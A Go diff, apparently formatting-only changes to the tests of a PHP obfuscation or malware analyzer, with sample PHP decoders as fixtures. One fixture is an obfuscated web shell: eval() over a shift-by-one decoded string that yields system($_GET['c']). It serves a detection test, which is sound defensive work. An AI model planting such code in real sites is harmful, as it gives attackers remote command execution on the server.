@@ -19,9 +19,9 @@ func run(t *testing.T, src, f string, args ...string) (string, bool) {
 func TestInterp(t *testing.T) {
 	for _, c := range []struct {
 		name, src, f string
-		args      []string
-		want      string
-		ok        bool
+		args         []string
+		want         string
+		ok           bool
 	}{
 		{"xor with a stretched key", `<?php function d($s, $k) { $k = md5($k); $o = ""; for ($i = 0; $i < strlen($s); $i++) { $o .= chr(ord($s[$i]) ^ ord($k[$i % strlen($k)])); } return $o; }`,
 			"d", []string{"\x13\x1c\x11", "k"}, string([]byte{0x13 ^ '8', 0x1c ^ 'c', 0x11 ^ 'e'}), true}, // md5("k") = 8ce4...
@@ -68,7 +68,7 @@ func TestInterpBounds(t *testing.T) {
 // TestDecoderFunction: a payload behind a custom decoder function is found.
 func TestDecoderFunction(t *testing.T) {
 	src := `<?php function dec($s) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= chr(ord($s[$i]) - 1); } return $o; }
-eval(dec('tztufn)%`+"`"+`HFU\(d(^*<'));`
+eval(dec('tztufn)%` + "`" + `HFU\(d(^*<'));`
 	ds := Analyze([]byte(src))
 	found := false
 	for _, d := range ds {
